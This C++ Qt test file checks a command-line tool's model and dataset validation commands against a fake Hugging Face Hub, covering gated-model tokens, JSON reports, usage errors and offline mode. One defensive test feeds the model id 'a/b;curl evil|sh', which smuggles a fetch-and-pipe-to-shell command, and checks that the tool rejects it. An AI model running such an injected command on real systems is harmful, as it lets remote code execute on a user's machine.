#include "FakeHub.h"
#include "TestSupport.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>

using namespace vibeml;
using test::FakeHub;

namespace {

const QString kVibeml = QStringLiteral(VIBEML_EXECUTABLE);

} // namespace

class TestValidateCommands : public QObject
{
    Q_OBJECT

private:
    FakeHub m_fake;

    // The fake Hub for both endpoints, a private cache, and no keychain so the token can only come
    // from the environment given here.
    test::ProcessResult run(const QStringList &arguments, const QStringList &extra = {})
    {
        static int counter = 0;
        const QString root = test::isolatedRoot() + QStringLiteral("/validate-%1").arg(++counter);
        QStringList environment{QStringLiteral("HF_ENDPOINT=") + m_fake.url().toString(),
                                QStringLiteral("HF_DATASETS_SERVER=") + m_fake.url().toString(),
                                QStringLiteral("XDG_CACHE_HOME=") + root + QStringLiteral("/cache"),
                                QStringLiteral("XDG_CONFIG_HOME=") + root + QStringLiteral("/config"),
                                QStringLiteral("XDG_STATE_HOME=") + root + QStringLiteral("/state"),
                                QStringLiteral("DBUS_SESSION_BUS_ADDRESS=unix:path=/nonexistent/vibeml-bus")};
        return test::runProcess(kVibeml, arguments, {}, environment + extra, {QStringLiteral("HF_TOKEN")});
    }

private Q_SLOTS:
    void initTestCase() { QVERIFY(m_fake.start()); }

    void readyModel()
    {
        const test::ProcessResult result = run({QStringLiteral("validate-model"), QStringLiteral("Qwen/Qwen2.5-0.5B-Instruct")});
        QVERIFY2(result.exitCode == 0, QByteArray(result.out + result.err).constData());
        QVERIFY(result.out.startsWith("Model Qwen/Qwen2.5-0.5B-Instruct\n"));
        QVERIFY(result.out.contains("✓ Architecture Qwen 2 / 2.5 (Qwen2ForCausalLM)"));
        QVERIFY(result.out.endsWith("Ready to train.\n"));
    }

    void gatedModelNeedsApproval()
    {
        const test::ProcessResult result = run({QStringLiteral("validate-model"), QStringLiteral("meta-llama/Llama-3.1-8B-Instruct")},
                                               {QStringLiteral("HF_TOKEN=") + FakeHub::notApprovedToken()});
        QCOMPARE(result.exitCode, 4);
        QVERIFY(result.out.contains("Request access at"));
        QVERIFY(!result.out.contains(FakeHub::notApprovedToken().toUtf8()));
        QVERIFY(!result.err.contains(FakeHub::notApprovedToken().toUtf8()));
        // The token went to the Hub as a bearer token.
        QCOMPARE(m_fake.requests().last().authorization, QByteArray("Bearer ") + FakeHub::notApprovedToken().toUtf8());
    }

    void jsonReport()
    {
        const test::ProcessResult result = run({QStringLiteral("validate-model"), QStringLiteral("meta-llama/Llama-3.1-8B-Instruct"),
                                                QStringLiteral("--json")},
                                               {QStringLiteral("HF_TOKEN=") + FakeHub::validToken()});
        QCOMPARE(result.exitCode, 0);
        const QJsonObject report = QJsonDocument::fromJson(result.out).object();
        QCOMPARE(report.value(QStringLiteral("ready")).toBool(), true);
        QCOMPARE(report.value(QStringLiteral("parameters")).toDouble(), 8030261248.0);
        QCOMPARE(report.value(QStringLiteral("gated")).toString(), QStringLiteral("manual"));
        QVERIFY(report.value(QStringLiteral("pinnedSha")).toString().startsWith(QStringLiteral("0e9e39f2")));
        QVERIFY(report.value(QStringLiteral("checks")).toArray().size() >= 7);
    }

    void datasetReport()
    {
        test::ProcessResult result = run({QStringLiteral("validate-dataset"), QStringLiteral("HuggingFaceH4/ultrachat_200k"), QStringLiteral("--json")});
        QVERIFY2(result.exitCode == 0, result.err.constData());
        const QJsonObject report = QJsonDocument::fromJson(result.out).object();
        QCOMPARE(report.value(QStringLiteral("mapping")).toObject().value(QStringLiteral("format")).toString(), QStringLiteral("chat"));
        QCOMPARE(report.value(QStringLiteral("rows")).toDouble(), 207865.0);
        QCOMPARE(report.value(QStringLiteral("split")).toString(), QStringLiteral("train_sft"));

        result = run({QStringLiteral("validate-dataset"), QStringLiteral("openai/gsm8k"), QStringLiteral("--format"), QStringLiteral("text"),
                      QStringLiteral("--column"), QStringLiteral("text=answer")});
        QCOMPARE(result.exitCode, 0);
        QVERIFY(result.out.contains("text: answer"));
        result = run({QStringLiteral("validate-dataset"), QStringLiteral("openai/gsm8k"), QStringLiteral("--format"), QStringLiteral("text"),
                      QStringLiteral("--column"), QStringLiteral("text=solution")});
        QCOMPARE(result.exitCode, 4);
        QVERIFY(result.out.contains("no column \"solution\""));
    }

    void usageErrors()
    {
        QCOMPARE(run({QStringLiteral("validate-model")}).exitCode, 2);
        QCOMPARE(run({QStringLiteral("validate-model"), QStringLiteral("a/b"), QStringLiteral("c/d")}).exitCode, 2);
        QCOMPARE(run({QStringLiteral("validate-model"), QStringLiteral("a/b"), QStringLiteral("--frobnicate")}).exitCode, 2);
        QCOMPARE(run({QStringLiteral("validate-dataset"), QStringLiteral("a/b"), QStringLiteral("--format"), QStringLiteral("yaml")}).exitCode, 2);
        QCOMPARE(run({QStringLiteral("validate-dataset"), QStringLiteral("a/b"), QStringLiteral("--format"), QStringLiteral("text"),
                      QStringLiteral("--column"), QStringLiteral("nonsense")})
                     .exitCode,
                 2);
    }

    void offlineWithoutCacheIsUnavailable()
    {
        const test::ProcessResult result =
            run({QStringLiteral("validate-model"), QStringLiteral("someone/unknown-model")}, {QStringLiteral("HF_HUB_OFFLINE=1")});
        QCOMPARE(result.exitCode, 3);
        QVERIFY(result.out.contains("HF_HUB_OFFLINE"));
    }

    void offlineSnapshotPlans()
    {
        const test::ProcessResult result =
            run({QStringLiteral("validate-dataset"), QStringLiteral("databricks/databricks-dolly-15k")}, {QStringLiteral("HF_HUB_OFFLINE=1")});
        QCOMPARE(result.exitCode, 0);
        QVERIFY(result.out.contains("(offline snapshot of 20"));
        QVERIFY(result.out.contains("instruction: instruction + context → response"));
    }

    void hostileIdIsRefusedBeforeAnyRequest()
    {
        m_fake.clearRequests();
        const test::ProcessResult result = run({QStringLiteral("validate-model"), QStringLiteral("a/b;curl evil|sh")});
        QCOMPARE(result.exitCode, 4);
        QVERIFY(result.out.contains("not a valid Hub id"));
        QCOMPARE(m_fake.requests().size(), 0);
    }
};

VIBEML_TEST_MAIN_CORE(TestValidateCommands)
#include "tst_validatecommands.moc"
